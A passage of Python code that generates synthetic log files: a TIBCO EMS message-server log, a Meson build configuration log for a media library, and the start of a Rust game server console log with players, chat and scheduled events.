    CLIENTS = [("orders_svc", "app03.shop.local"), ("orders_svc", "app04.shop.local"), ("payment_svc", "pay01.shop.local"), ("stock_svc", "wms01.shop.local"),
               ("mailer", "batch02.shop.local"), ("bw_engine", "bw6-01.shop.local"), ("bw_engine", "bw6-02.shop.local")]
    QUEUES = ["Q.ORDERS.IN", "Q.ORDERS.VALIDATED", "Q.PAYMENT.REQ", "Q.PAYMENT.RESP", "Q.STOCK.RESERVE", "Q.MAIL.OUT"]
    st = {"conn": {}, "next": g.num(100, 900), "msg": g.num(10 ** 5, 10 ** 6), "backup": True, "pid": g.num(2000, 40000)}

    def e(msg, ev, lv=None):
        L.t += dt.timedelta(milliseconds=g.num(0, 90))
        L.emit(f"{L.t:%Y-%m-%d %H:%M:%S}.{ms3(L.t)} {msg}", ev, lv)

    def startup():
        for text, ev in [("", "blank"), ("TIBCO Enterprise Message Service.", "banner_name"), ("Copyright 2003-2024 Cloud Software Group, Inc. All Rights Reserved.", "banner_copyright"),
                         ("Version 10.2.1 V7 3/22/2024", "banner_version"), ("", "blank")]:
            L.emit(text, ev)
        st["pid"] = g.num(2000, 40000)
        e("Process started from '/opt/tibco/ems/10.2/bin/tibemsd'.", "process_started")
        e(f"Process Id: {st['pid']}", "process_id")
        e("Hostname: emsprod01", "hostname")
        e("Hostname IP address: 10.30.1.21", "hostname_ip")
        for ip, dev in [("127.0.0.1", "lo"), ("10.30.1.21", "ens192")]:
            e(f"Detected IP interface: {ip} ({dev})", "detected_interface")
        e("Reading configuration from '/opt/tibco/ems/config/tibemsd.json'.", "reading_config")
        e("Logging into file '/opt/tibco/ems/log/tibemsd.log'", "logging_into")
        e("Server name: 'EMS-PROD'.", "server_name")
        e("Storage Location: '/opt/tibco/ems/datastore'.", "storage_location")
        e("Routing is disabled.", "routing_disabled")
        e("Authorization is enabled.", "authorization_enabled")
        e("Starting as the primary server in fault tolerant mode (peer: tcp://emsprod02:7222).", "starting_ft")
        e("Accepting connections on tcp://emsprod01/[0.0.0.0]:7222.", "accepting_connections")
        e("Recovering state, please wait.", "recovering_state")
        L.tick(2)
        e(f"Recovered {g.num(0, 40000)} messages.", "recovered_messages")
        e("Server is active.", "server_active")
        st["conn"] = {}
        st["backup"] = False
        for _ in range(len(CLIENTS)):
            L.tick(0.5)
            connect()

    def connect():
        u, h = g.c(CLIENTS)
        st["next"] += 1
        cid = st["next"]
        st["conn"][cid] = (u, h)
        e(f"[{u}@{h}]: connect, connID={cid}, clientID=<{g.c(['none', u + '-' + h.split('.')[0]])}>, type=jms, version=10.2.1, SSL=no", "connect")

    def disconnect():
        if not st["conn"]:
            return connect()
        cid = g.c(sorted(st["conn"]))
        u, h = st["conn"].pop(cid)
        if g.r.random() < 0.8:
            e(f"[{u}@{h}]: disconnect, connID={cid}", "disconnect")
        else:
            e(f"WARNING: [{u}@{h}]: connection connID={cid} closed, missed {g.num(2, 3)} consecutive client heartbeats", "missed_heartbeats", "WARNING")
            e(f"[{u}@{h}]: disconnect, connID={cid}", "disconnect")

    def fail():
        u, h = g.c(CLIENTS + [("admin", "jump01.shop.local"), ("test", f"10.30.{g.num(2, 9)}.{g.num(2, 250)}")])
        r = g.r.random()
        if r < 0.6:
            e(f"[{u}@{h}]: connect failed: authentication failed", "connect_failed")
        elif r < 0.85:
            e(f"[{u}@{h}]: connect failed: server in standby mode", "connect_failed")
        else:
            e(f"[{u}@{h}]: connect failed: exceeded max connections limit 2000", "connect_failed")

    def msg():
        if not st["conn"]:
            return connect()
        cid = g.c(sorted(st["conn"]))
        u, h = st["conn"][cid]
        q = g.c(QUEUES)
        st["msg"] += 1
        mid = f"ID:EMS-PROD.{g.HX(12)}:{st['msg']}"
        e(f"[MSG:{st['msg']}] Received from user='{u}', host='{h}', connID={cid}, prodID={g.num(10, 900)}, msgID='{mid}', mode=persistent, queue='{q}'", "msg_received")
        if g.r.random() < 0.85:
            L.tick(0.2)
            cid2 = g.c(sorted(st["conn"]))
            u2, h2 = st["conn"][cid2]
            e(f"[MSG:{st['msg']}] Delivered to user='{u2}', host='{h2}', connID={cid2}, consID={g.num(10, 900)}, msgID='{mid}', queue='{q}'", "msg_delivered")
            if g.r.random() < 0.8:
                e(f"[MSG:{st['msg']}] Acknowledged by user='{u2}', host='{h2}', connID={cid2}, msgID='{mid}'", "msg_acknowledged")
        if g.r.random() < 0.02:
            e(f"[MSG:{st['msg']}] Moved to undelivered queue '$sys.undelivered', reason: 'Max redelivery count exceeded', msgID='{mid}', queue='{q}'", "msg_undelivered")

    def limit():
        q = g.c(QUEUES[:3])
        r = g.r.random()
        if r < 0.5:
            e(f"WARNING: Queue '{q}' has exceeded its maxbytes limit of 512MB, producers will be blocked", "maxbytes_exceeded", "WARNING")
        elif r < 0.8:
            e(f"WARNING: Pending message count {g.num(100000, 200000)} for queue '{q}' exceeds maxmsgs limit 100000", "maxmsgs_exceeded", "WARNING")
        else:
            e(f"Queue '{q}' is below its flow control threshold, producers resumed", "flow_resumed")

    def backup():
        st["backup"] = not st["backup"]
        if st["backup"]:
            e("Backup server 'EMS-PROD@emsprod02' has connected.", "backup_connected")
        else:
            e("ERROR: Backup server 'EMS-PROD@emsprod02' disconnected.", "backup_disconnected", "ERROR")

    def admin():
        a = g.c(["admin", "ems_ops"])
        q = g.c(QUEUES + ["Q.ORDERS.RETRY", "Q.TEST." + g.alnum(4).upper()])
        cmd, ev = g.c([(f"create queue {q}", "admin_create_queue"), (f"purge queue {q}", "admin_purge_queue"), (f"delete queue {q}", "admin_delete_queue"),
                       (f"grant queue {q} user={g.c(CLIENTS)[0]} send,receive", "admin_grant"), (f"setprop queue {q} maxbytes=512MB,prefetch=5", "admin_setprop"),
                       ("show connections", "admin_show"), ("compact $sys.failsafe 60", "admin_compact")])
        e(f"[{a}@jump01.shop.local]: connect, connID={st['next'] + 1}, clientID=<none>, type=admin, version=10.2.1, SSL=yes", "connect")
        st["next"] += 1
        e(f"[{a}@jump01.shop.local]: {cmd}", ev)
        if ev == "admin_compact":
            e("Store '$sys.failsafe': compaction started", "compaction_started")
            L.tick(10)
            e(f"Store '$sys.failsafe': compaction completed, {g.num(10, 900)} MB reclaimed in {g.num(1000, 90000)} ms", "compaction_completed")
        e(f"[{a}@jump01.shop.local]: disconnect, connID={st['next']}", "disconnect")

    def store():
        e(f"WARNING: Store '$sys.failsafe' file '/opt/tibco/ems/datastore/sync-msgs.db' is {g.num(80, 95)}% full", "store_full_warning", "WARNING")

    def crash():
        for _ in range(g.num(2, 5)):
            e("SEVERE ERROR: Failed writing message to '$sys.failsafe': No space left on device", "severe_failed_writing", "SEVERE ERROR")
            L.tick(0.5)
        e("SEVERE ERROR: Store '$sys.failsafe' is in a failed state, the server will exit", "severe_store_failed", "SEVERE ERROR")
        e("Server is shutting down.", "shutting_down")
        L.tick(200)
        startup()

    startup()
    ev = [(10, connect), (9, disconnect), (6, fail), (40, msg), (3, limit), (0.4, backup), (1.2, admin), (0.6, store), (0.05, crash)]
    L.run(slowed(L, ev, 9), None)
    return carry_time(L, lambda r: not r[1].startswith("banner") and r[1] != "blank")


# 6 ---------------------------------------------------------------- Meson 1.5 configuring a media library with two subprojects in a GitLab CI job, the job's artifact
#   build/meson-logs/meson-log.txt: no header on any line; the preamble, compiler and linker detection with their stdout, then one block per check ("Running
#   compile:", the working directory, "Code:" and the test program, the command line and its exit code, stdout or stderr when there is any, then the result
#   line "Has header "x.h" : YES"), pkg-config and CMake dependency lookups with their "Called:" blocks, failed checks with GCC's diagnostics, warnings,
#   subprojects whose result lines carry the "name| " prefix
@checked
def log_meson(seed):
    L = Log("meson_log_txt", seed, None, True, False, start=dt.datetime(2026, 11, 30, 14, 2, 11, tzinfo=UTC))
    g = L.g
    SRC = "/builds/media/pixelkit"
    BLD = SRC + "/build"
    st = {"sub": ""}
    H_TPL = [" ", "        #ifdef __has_include", "         #if !__has_include(\"{h}\")", "          #error \"Header '{h}' could not be found\"", "         #endif", "        #else",
             "         #include <{h}>", "        #endif"]
    F_TPL = [" ", "        #define {f} meson_disable_define_of_{f}", "        ", "        #include <limits.h>", "        #undef {f}", "        ", "        #ifdef __cplusplus",
             "        extern \"C\"", "        #endif", "        char {f} (void);", "        ", "        #if defined __stub_{f} || defined __stub___{f}",
             "        fail fail fail this function is not going to work", "        #endif", "        ", "        int main(void) {{", "          return {f} ();", "        }}"]
    FP_TPL = [" #include <{p}>", "        #include <limits.h>", "        ", "        #if defined __stub_{f} || defined __stub___{f}", "        fail fail fail this function is not going to work",
              "        #endif", "        ", "        int main(void) {{", "            void *a = (void*) &{f};", "            long long b = (long long) a;", "            return (int) b;", "        }}"]
    A_TPL = [" extern int i;", "int i;", ""]
    S_TPL = [" #include <{p}>", "        #include <stdio.h>", "        int main(void) {{", "            printf(\"%ld\\n\", (long)(sizeof({t})));", "            return 0;", "        }}"]
    HEADERS = ["unistd.h", "sys/mman.h", "sys/random.h", "linux/memfd.h", "sys/prctl.h", "malloc.h", "xlocale.h", "sys/sysctl.h", "pthread_np.h", "execinfo.h", "byteswap.h",
               "sys/auxv.h", "cpuid.h", "immintrin.h", "arm_neon.h", "stdatomic.h", "threads.h", "sys/eventfd.h", "sys/inotify.h", "libproc.h"]
    MISSING = {"xlocale.h", "sys/sysctl.h", "pthread_np.h", "arm_neon.h", "libproc.h"}
    FUNCS = [("memfd_create", "sys/mman.h"), ("getrandom", "sys/random.h"), ("strlcpy", "string.h"), ("posix_memalign", "stdlib.h"), ("aligned_alloc", "stdlib.h"),
             ("pthread_setname_np", "pthread.h"), ("clock_gettime", "time.h"), ("sched_getaffinity", "sched.h"), ("qsort_r", "stdlib.h"), ("explicit_bzero", "string.h"),
             ("issetugid", "unistd.h"), ("reallocarray", "stdlib.h"), ("getauxval", "sys/auxv.h"), ("mkostemp", "stdlib.h"), ("_aligned_malloc", "malloc.h")]
    FMISSING = {"issetugid", "_aligned_malloc"}
    ARGS = ["-Wall", "-Wextra", "-Wno-unused-parameter", "-Wno-missing-field-initializers", "-Wformat=2", "-Wformat-security", "-Wpointer-arith", "-Wvla", "-Wundef",
            "-Wmissing-prototypes", "-Wold-style-definition", "-Wdeclaration-after-statement", "-Wnested-externs", "-Werror=implicit-function-declaration",
            "-Werror=return-type", "-Werror=int-conversion", "-fno-strict-aliasing", "-fvisibility=hidden", "-ffast-math", "-Wshadow", "-Wstrict-prototypes",
            "-Wno-cast-function-type", "-Wimplicit-fallthrough", "-Wmisleading-indentation", "-Wlogical-op", "-mavx2", "-mssse3", "-msse4.1", "-mfma", "-mf16c", "-Wno-pedantic",
            "-Wthread-safety", "-Wshorten-64-to-32", "-Wcomma"]
    AMISSING = {"-Wthread-safety", "-Wshorten-64-to-32", "-Wcomma"}
    DEPS = [("glib-2.0", "2.80.3", "-I/usr/include/glib-2.0 -I/usr/lib64/glib-2.0/include -I/usr/include/sysprof-6 -pthread", "-lglib-2.0"),
            ("gobject-2.0", "2.80.3", "-I/usr/include/glib-2.0 -I/usr/lib64/glib-2.0/include -I/usr/include/sysprof-6 -pthread", "-lgobject-2.0 -lglib-2.0"),
            ("libpng", "1.6.40", "-I/usr/include/libpng16", "-lpng16"), ("zlib", "1.3.1", "", "-lz"), ("libjpeg", "3.0.2", "", "-ljpeg"),
            ("libwebp", "1.3.2", "-I/usr/include/webp", "-lwebp"), ("lcms2", "2.16", "", "-llcms2"), ("libavcodec", "60.31.102", "-I/usr/include/ffmpeg", "-lavcodec"),
            ("libavformat", "60.16.100", "-I/usr/include/ffmpeg", "-lavformat"), ("libdrm", "2.4.122", "-I/usr/include/libdrm", "-ldrm"), ("libva", "1.22.0", "", "-lva")]
    DMISSING = [("libunwind", "libunwind"), ("libheif", "libheif"), ("OpenEXR", "OpenEXR"), ("libjxl", "libjxl")]
    ORDER = []

    def t(text, ev, lv=None, pre=False):
        if not text.strip():
            ev = "blank"
        L.emit(f"{st['sub']}{text}" if st["sub"] and (pre or ev.startswith("res_")) else text, ev, lv)

    def dash(n=11):
        t("-" * n, "dashes" if n == 11 else "dashes5")

    def compile_block(tpl, kw, cmd, rc, stderr=(), stdout=()):
        tmp = "tmp" + g.alnum(8, "abcdefghijklmnopqrstuvwxyz0123456789_")
        t("Running compile:", "running_compile")
        t(f"Working directory:  {BLD}/meson-private/{tmp}", "working_directory")
        t("Code:", "code")
        for line in tpl:
            t(line.format(**kw), "code|" + line)
        dash()
        t(f"Command line: `{cmd.replace('TMP', BLD + '/meson-private/' + tmp)}` -> {rc}", "command_line")
        if stdout:
            t("stdout:", "stdout")
            for line, ev in stdout:
                t(line, ev)
            dash()
        if stderr:
            t("stderr:", "stderr")
            for line, ev in stderr:
                t(line.replace("TMP", BLD + "/meson-private/" + tmp), ev)
            dash()

    def cflags():
        return "-D_FILE_OFFSET_BITS=64 -O0 -std=gnu11"

    def header(h=None):
        h = h or g.c(HEADERS)
        ok = h not in MISSING
        err = [] if ok else [(f"TMP/testfile.c:4:12: error: #error \"Header '{h}' could not be found\"", "gcc_error_directive"),
                             (f"    4 |           #error \"Header '{h}' could not be found\"", "gcc_source_line"), ("      |            ^~~~~", "gcc_caret_line")]
        compile_block(H_TPL, {"h": h}, f"cc TMP/testfile.c -E -P {cflags()} -P", 0 if ok else 1, err)
        t(f"Has header \"{h}\" : {'YES' if ok else 'NO'} ", "res_has_header")

    def func():
        f, p = g.c(FUNCS)
        ok = f not in FMISSING
        if g.r.random() < 0.5:
            code, kw = F_TPL, {"f": f}
            err = [] if ok else [(f"/usr/bin/ld: /tmp/cc{g.alnum(6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}.o: in function `main':", "ld_in_function"),
                                 (f"testfile.c:(.text+0x{g.hx(1)}): undefined reference to `{f}'", "ld_undefined_reference"), ("collect2: error: ld returned 1 exit status", "collect2_error")]
        else:
            code, kw = FP_TPL, {"f": f, "p": p}
            err = [] if ok else [("TMP/testfile.c: In function 'main':", "gcc_in_function"), (f"TMP/testfile.c:9:32: error: '{f}' undeclared (first use in this function)", "gcc_undeclared"),
                                 (f"    9 |             void *a = (void*) &{f};", "gcc_source_line"), ("      |                                ^" + "~" * (len(f) - 1), "gcc_caret_line"),
                                 ("TMP/testfile.c:9:32: note: each undeclared identifier is reported only once for each function it appears in", "gcc_note_undeclared")]
        compile_block(code, kw, f"cc TMP/testfile.c -o TMP/output.exe {cflags()}", 0 if ok else 1, err)
        t(f"Checking for function \"{f}\" : {'YES' if ok else 'NO'} ", "res_has_function")

    def arg():
        a = g.c(ARGS)
        ok = a not in AMISSING
        test = a.replace("-Wno-", "-W") if a.startswith("-Wno-") else a
        err = [] if ok else [(f"cc1: error: unrecognized command-line option '{test}'", "cc1_unrecognized")]
        compile_block(A_TPL, {}, f"cc TMP/testfile.c -o TMP/output.obj -c {cflags()} {test}", 0 if ok else 1, err)
        t(f"Compiler for C supports arguments {a}: {'YES' if ok else 'NO'} ", "res_supports_args")

    def sizeof():
        ty, p, n = g.c([("long", "stdint.h", 8), ("void *", "stddef.h", 8), ("size_t", "stddef.h", 8), ("int", "stdint.h", 4), ("off_t", "sys/types.h", 8), ("wchar_t", "wchar.h", 4)])
        compile_block(S_TPL, {"t": ty, "p": p}, f"cc TMP/testfile.c -o TMP/output.exe {cflags()}", 0)
        t("Program stdout:", "program_stdout")
        t("", "blank")
        t(str(n), "program_stdout_value")
        t("", "blank")
        t("Program stderr:", "program_stderr")
        t("", "blank")
        t("", "blank")
        t(f"Checking for size of \"{ty}\" : {n} ", "res_sizeof")

    def called(args, rc, out, err=(), system_libs=False):
        t("env[PKG_CONFIG_PATH]: ", "env_pkg_config_path")
        if system_libs:
            t("env[PKG_CONFIG_ALLOW_SYSTEM_LIBS]: 1", "env_allow_system_libs")
        t("env[PKG_CONFIG]: /usr/bin/pkg-config", "env_pkg_config")
        dash()
        t(f"Called: `/usr/bin/pkg-config {args}` -> {rc}", "called")
        if out is not None:
            t("stdout:", "stdout")
            t(out, "pkgconfig_output")
        if err:
            t("stderr:", "stderr")
            for line, ev in err:
                t(line, ev)
        dash()

    def dep():
        if g.r.random() < 0.8 or not DMISSING:
            name, ver, cf, libs = g.c(DEPS)
            t(f"Determining dependency '{name}' with pkg-config executable '/usr/bin/pkg-config'", "determining_dependency")
            called(f"--modversion {name}", 0, ver)
            called(f"--cflags {name}", 0, cf)
            called(f"--libs {name}", 0, "-L/usr/lib64 " + libs, system_libs=True)
            called(f"--libs {name}", 0, libs)
            t(f"Run-time dependency {name} found: YES {ver}", "res_dependency_yes")
        else:
            name, _ = g.c(DMISSING)
            t(f"Determining dependency '{name}' with pkg-config executable '/usr/bin/pkg-config'", "determining_dependency")
            called(f"--modversion {name}", 1, None, [(f"Package {name} was not found in the pkg-config search path.", "pc_not_found"),
                                                    (f"Perhaps you should add the directory containing `{name}.pc'", "pc_perhaps"), ("to the PKG_CONFIG_PATH environment variable", "pc_to_the_path"),
                                                    (f"Package '{name}', required by 'virtual:world', not found", "pc_required_by")])
            t("CMake binary for host machine is not cached", "cmake_not_cached")
            t("CMake binary missing from cross or native file, or env var undefined.", "cmake_missing")
            t("Trying a default CMake fallback at cmake", "cmake_fallback")
            t("Found CMake: /usr/bin/cmake (3.28.2)", "found_cmake")
            t(f"Determining dependency '{name}' with CMake executable '/usr/bin/cmake'", "determining_dependency_cmake")
            t("Try CMake generator: auto", "cmake_generator")
            t(f"Called: `/usr/bin/cmake -DNAME={name} -DARCHS= -DVERSION= -DCOMPS= -DSTATIC=OFF --fresh {BLD}/meson-private/cmake_{name}` in {BLD}/meson-private/cmake_{name} -> 0", "cmake_called")
            t(f"Run-time dependency {name} found: NO (tried pkgconfig and cmake)", "res_dependency_no")
            if g.r.random() < 0.5:
                t(f"WARNING: {name} not found, {g.c(['HEIF', 'EXR', 'JPEG XL', 'backtrace'])} support disabled", "warning_not_found", "WARNING")

    def program():
        p, path = g.c([("python3", "/usr/bin/python3"), ("glib-mkenums", "/usr/bin/glib-mkenums"), ("glib-compile-resources", "/usr/bin/glib-compile-resources"),
                       ("nasm", "/usr/bin/nasm"), ("gi-docgen", None), ("xxd", "/usr/bin/xxd"), ("git", "/usr/bin/git"), ("sphinx-build", None)])
        t(f"Program {p} found: {'YES (' + path + ')' if path else 'NO'}", "res_program")

    def library():
        lib = g.c(["m", "dl", "rt", "pthread", "atomic", "execinfo"])
        t(f"Library {lib} found: {'NO' if lib == 'execinfo' else 'YES'}", "res_library")

    def define():
        d, v = g.c([("__GLIBC__", "2"), ("__clang__", ""), ("__x86_64__", "1"), ("__BYTE_ORDER__", "__ORDER_LITTLE_ENDIAN__"), ("_POSIX_VERSION", "200809L")])
        compile_block([" #include <stdio.h>", "        #ifndef {d}", "        # define {d}", "        #endif", '        "MESON_GET_DEFINE_DELIMITER_START"', "{d}",
                       '"MESON_GET_DEFINE_DELIMITER_END"'], {"d": d}, f"cc TMP/testfile.c -E -P {cflags()} -P", 0)
        t(f"Fetching value of define \"{d}\" : {v} ", "res_define")

    def preamble():
        t(f"Build started at {L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}", "build_started")
        t("Main binary: /usr/bin/python3", "main_binary")
        t("Build Options: -Dbuildtype=release -Dprefix=/usr -Ddefault_library=shared -Dintrospection=disabled -Dtests=true -Dwrap_mode=default", "build_options")
        t("Python system: Linux", "python_system")
        t("The Meson build system", "meson_build_system")
        t("Version: 1.5.1", "version")
        t(f"Source dir: {SRC}", "source_dir")
        t(f"Build dir: {BLD}", "build_dir")
        t("Build type: native build", "build_type")
        t("Project name: pixelkit", "project_name")
        t("Project version: 0.24.2", "project_version")
        dash()
        t("Detecting compiler via: `cc --version` -> 0", "detecting_compiler_via")
        t("stdout:", "stdout")
        for line, ev in [("cc (GCC) 14.2.1 20240912 (Red Hat 14.2.1-3)", "gcc_version_out"), ("Copyright (C) 2024 Free Software Foundation, Inc.", "gcc_copyright_out"),
                         ("This is free software; see the source for copying conditions.  There is NO", "gcc_free_out"),
                         ("warranty; not even for MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.", "gcc_warranty_out"), ("", "blank")]:
            t(line, ev)
        dash()
        t("Running command: cc -E -dM -", "running_command")
        dash(5)
        dash()
        t("Detecting linker via: `cc -Wl,--version` -> 0", "detecting_linker_via")
        t("stdout:", "stdout")
        t("GNU ld version 2.41-38.fc40", "ld_version_out")
        t("Copyright (C) 2023 Free Software Foundation, Inc.", "ld_copyright_out")
        dash()
        t("stderr:", "stderr")
        t("collect2 version 14.2.1 20240912 (Red Hat 14.2.1-3)", "collect2_version_out")
        t("/usr/bin/ld -plugin /usr/libexec/gcc/x86_64-redhat-linux/14/liblto_plugin.so --version -L/usr/lib/gcc/x86_64-redhat-linux/14 -L/usr/lib64 -L/lib64 -L/usr/lib -lgcc --push-state --as-needed -lgcc_s --pop-state -lc", "ld_cmd_out")
        dash()
        t("Sanity testing C compiler: cc", "sanity_testing")
        t("Is cross compiler: False.", "is_cross")
        t("Sanity check compiler command line: cc sanitycheckc.c -o sanitycheckc.exe -D_FILE_OFFSET_BITS=64", "sanity_cmdline")
        t("Sanity check compile stdout:", "sanity_stdout")
        t("", "blank")
        dash(5)
        t("Sanity check compile stderr:", "sanity_stderr")
        t("", "blank")
        dash(5)
        t(f"Running test binary command:  {BLD}/meson-private/sanitycheckc.exe", "running_test_binary")
        t("C compiler for the host machine: cc (gcc 14.2.1 \"cc (GCC) 14.2.1 20240912 (Red Hat 14.2.1-3)\")", "c_compiler_for")
        t("C linker for the host machine: cc ld.bfd 2.41-38", "c_linker_for")
        t("Host machine cpu family: x86_64", "host_cpu_family")
        t("Host machine cpu: x86_64", "host_cpu")
        t("Pkg-config binary missing from cross or native file, or env var undefined.", "pkgconfig_missing")
        t("Trying a default Pkg-config fallback at pkg-config", "pkgconfig_fallback")
        t("Found pkg-config: YES (/usr/bin/pkg-config) 2.1.1", "found_pkgconfig")

    def subproject(name):
        t("", "blank")
        t(f"Executing subproject {name} ", "executing_subproject")
        t("", "blank")
        st["sub"] = f"{name}| "
        t(f"Project name: {name}", "project_name", pre=True)
        t(f"Project version: {g.c(['0.0.1', '1.2.13', '2.1.0'])}", "project_version", pre=True)
        t("C compiler for the host machine: cc (gcc 14.2.1 \"cc (GCC) 14.2.1 20240912 (Red Hat 14.2.1-3)\")", "c_compiler_for", pre=True)
        t("C linker for the host machine: cc ld.bfd 2.41-38", "c_linker_for", pre=True)

    def end_sub(name):
        t(f"Build targets in project: {g.num(2, 12)}", "res_build_targets")
        st["sub"] = ""
        t(f"Subproject {name} finished.", "subproject_finished")
        t("", "blank")

    def configure():
        t(f"Configuring config.h using configuration", "configuring")

    def message():
        if g.r.random() < 0.5:
            t(f"Message: {g.c(['SIMD: AVX2 enabled', 'Using system zlib', 'Tests will use reference images from tests/ref', 'Building documentation: NO'])}", "message")
        else:
            t(f"DEPRECATION: Project uses feature that was always broken, and is now deprecated since '{g.c(['1.3.0', '0.64.0'])}': {g.c(['str.format: Value other than strings, integers, bools, options, dictionaries and lists thereof.', 'module fs.', 'dep.get_pkgconfig_variable.'])}", "deprecation", "DEPRECATION|WARNING")

    preamble()
    for h in HEADERS[:8]:
        header(h)
    plan = [(header, 12), (func, 14), (arg, 24), (sizeof, 3), (dep, 8), (program, 4), (library, 3), (define, 2), (configure, 1), (message, 1.5)]
    fns, ws = [p[0] for p in plan], [p[1] for p in plan]
    subs = ["gvdb", "libyuv-meson"]
    while len(L.rows) < N_LINES:
        if subs and g.r.random() < 0.008 and len(L.rows) > 400:
            name = subs.pop(0)
            subproject(name)
            for _ in range(g.num(6, 14)):
                g.r.choices(fns[:4], ws[:4])[0]()
            end_sub(name)
        g.r.choices(fns, ws)[0]()
    del L.rows[N_LINES:]
    return L


# 7 ---------------------------------------------------------------- Facepunch's Rust dedicated server (RustDedicated on Linux through LinuxGSM, uMod/Oxide installed) of a small community,
#   the console log LinuxGSM keeps: the game's and Oxide's lines with no header at all (no time, no level); start-up with prefab bundles, world loading and
#   Oxide loading its plugins, players joining ("ip:port/steamid/name joined [windows/steamid]") and leaving, chat, deaths and kills, the scheduled events
#   (cargo plane, patrol helicopter, cargo ship), the autosave every ten minutes, slow plugin hooks, plugin errors and Unity exceptions with their frames,
#   a wipe-day restart
@checked
def log_rust(seed):
    L = Log("rustdedicated_console_log", seed, None, False, False, start=dt.datetime(2026, 12, 3, 18, 0, 4, tzinfo=UTC))
    g = L.g
    NAMES = ["Kr4ken", "xX_Sl4yer_Xx", "mumu", "Bob der Baumeister", "TTV_raidmaster", "nova", "Fjord", "shrek_is_love", "Pelle", "CaptainNoob", "zrx", "Mirko", "KalleAnka",
             "Lumi", "r3d", "Dr. Mantis", "oskar", "Zippo"]
    PLAYERS = {n: (f"7656119{g.num(8000000000, 9999999999)}", g.ip("pub")) for n in NAMES}
    PLUGINS = [("Kits", "4.4.1", "k1lly0u"), ("Better Chat", "5.2.14", "LaserHydra"), ("Death Notes", "6.3.6", "LaserHydra"), ("Zone Manager", "3.1.10", "k1lly0u"),
               ("Remover Tool", "4.3.41", "Reneb/Fuji/Arainrr/Tryhard"), ("Stack Size Controller", "4.1.2", "AnExiledDev/patched by chrome"), ("Gather Manager", "2.2.78", "Mughisi"),
               ("Info Panel", "0.9.9", "Ghosst / Nogrod"), ("NTeleportation", "1.8.7", "nivex"), ("Clans", "0.2.6", "k1lly0u")]
    st = {"on": {}, "ents": g.num(90000, 140000), "next_save": None}

    def o(text, ev):
        L.emit(text, ev)

    def startup():
        for b in ["shared/content.bundle", "shared/fx.bundle", "shared/items.bundle", "shared/maps.bundle", "shared/prefabs.bundle", "shared/scenes.bundle"]:
            o(f"Loading Prefab Bundle {b}", "loading_bundle")
        o(f"Prefab Bundles loaded in {g.f(8, 30, 2)} seconds", "bundles_loaded")
        o("Initializing Steamworks", "init_steamworks")
        o("Loading Oxide Core v2.0.6461...", "oxide_core")
        o("Loading extensions...", "oxide_loading_ext")
        for ext, v in [("CSharp", "2.0.4082"), ("MySql", "2.0.3889"), ("SQLite", "2.0.3888"), ("Unity", "2.0.3900"), ("Rust", "2.0.6461")]:
            o(f"Loaded extension {ext} v{v} by Oxide and Contributors", "oxide_loaded_ext")
        o(f"Generating terrain of size {g.c([3500, 4000, 4250])} with seed {g.num(1, 2 ** 31)}", "generating_terrain")
        o(f"Loading world from /home/rustserver/serverfiles/server/rustserver/proceduralmap.4000.{g.num(1, 2 ** 31)}.261.map", "loading_world")
        for what, n in [("entity links", g.num(10000, 30000)), ("stability supports", g.num(1000, 9000)), ("entity save caches", g.num(30000, 90000))]:
            o(f"Initializing {n} {what}", "initializing_n")
        o(f"Initializing {g.num(10, 40)} conditional models", "initializing_n")
        o("Loading Steam Inventory Definitions", "inventory_defs")
        o("Loading plugins...", "oxide_loading_plugins")
        for name, v, a in PLUGINS:
            o(f"Loaded plugin {name} v{v} by {a}", "oxide_loaded_plugin")
        if g.r.random() < 0.5:
            o("Missing plugin name prefix 'Info Panel' for Info Panel", "oxide_missing_prefix")
        o("SteamServer Initialized", "steam_initialized")
        o("SteamServer Connected", "steam_connected")
        o("Server startup complete", "startup_complete")
        st["on"] = {}
        st["next_save"] = 40

    def join():
        off = [n for n in NAMES if n not in st["on"]]
        if not off:
            return leave()
        n = g.c(off)
        sid, ip = PLAYERS[n]
        port = g.port()
        st["on"][n] = port
        o(f"{ip}:{port}/{sid}/{n} joined [{g.c(['windows', 'windows', 'windows', 'osx', 'linux'])}/{sid}]", "joined")
        L.tick(10)
        o(f"{n}[{sid}] has entered the game", "entered_game")
        if g.r.random() < 0.3:
            o(f"[Better Chat] {n} joined the server", "betterchat_joined")

    def leave():
        if not st["on"]:
            return join()
        n = g.c(sorted(st["on"]))
        port = st["on"].pop(n)
        sid, ip = PLAYERS[n]
        reason = g.c(["disconnect", "disconnect", "disconnect", "Timed Out", "Unresponsive", "Steam Auth Timeout"])
        o(f"{ip}:{port}/{sid}/{n} disconnecting: {reason}", "disconnecting")

    def chat():
        if not st["on"]:
            return join()
        n = g.c(sorted(st["on"]))
        msg = g.c(["gg", "anyone selling sulfur?", "wipe when", "lol", "who raided me at D14", "need hqm", "oil rig is up", "ty", "heli down at launch", "team?",
                   "server lag?", "/kit starter", "nice one", "ez", "rip", "where is outpost", "10k scrap for ak?"])
        o(f"[CHAT] {n}[{PLAYERS[n][0]}] : {msg}", "chat")

    def death():
        if not st["on"]:
            return join()
        n = g.c(sorted(st["on"]))
        sid = PLAYERS[n][0]
        r = g.r.random()
        if r < 0.35 and len(st["on"]) > 1:
            k = g.c([x for x in st["on"] if x != n])
            o(f"{n}[{sid}] was killed by {k}[{PLAYERS[k][0]}] at ({g.f(-2000, 2000, 1)}, {g.f(0, 80, 1)}, {g.f(-2000, 2000, 1)})", "killed_by_player")
        elif r < 0.65:
            k, kn = g.c([("scientistnpc_roam", "Scientist"), ("bear", "Bear"), ("wolf", "Wolf"), ("boar", "Boar"), ("autoturret_deployed", "Auto Turret"),
                         ("patrolhelicopter", "Patrol Helicopter"), ("scientistnpc_heavy", "Heavy Scientist")])
            o(f"{n}[{sid}] was killed by {k} ({kn})", "killed_by_entity")
        elif r < 0.9:
            o(f"{n}[{sid}] died ({g.c(['Fall', 'Bleeding', 'Drowned', 'Cold', 'Hunger', 'Radiation', 'Explosion'])})", "died")
        else:
            o(f"{n}[{sid}] was suicide by Suicide", "suicide")

    def event():
        o(f"[event] assets/prefabs/{g.c(['npc/cargo plane/cargo_plane.prefab', 'npc/patrol helicopter/patrolhelicopter.prefab', 'npc/ch47/ch47scientists.entity.prefab', 'misc/xmas/xmasrefill.prefab', 'npc/cargo ship/cargoshippatrol.prefab'])}", "event")

    def save():
        st["ents"] += g.num(-500, 3000)
